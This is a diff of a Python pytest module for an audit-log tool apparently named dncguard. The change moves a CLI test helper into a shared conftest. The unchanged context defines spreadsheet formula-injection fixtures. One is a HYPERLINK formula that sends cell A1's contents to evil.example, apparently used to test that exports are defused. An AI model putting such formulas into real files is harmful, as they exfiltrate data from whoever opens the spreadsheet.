@@ -15,11 +15,11 @@ import pytest
 
 from dncguard.audit import AuditLog, AuditRecord
 from dncguard.audit.export import export_file
-from dncguard.cli import run
 from dncguard.config import Settings
 from dncguard.errors import InputError
 from dncguard.io.verdict_file import defuse
 
+from ..conftest import cli
 from .conftest import FakeClock, make_log
 
 FORMULA_WHO = '=HYPERLINK("http://evil.example/?d="&A1,"open me")'
@@ -29,12 +29,6 @@ FORMULA_LIST = "@SUM(1+1)"
 @pytest.fixture(autouse=True)
 def _key(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("DNCGUARD_AUDIT_HMAC_KEY", "test-key")
-
-
-def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
-    code = run(list(args))
-    out, err = capsys.readouterr()
-    return code, out, err
 
 
 @pytest.fixture
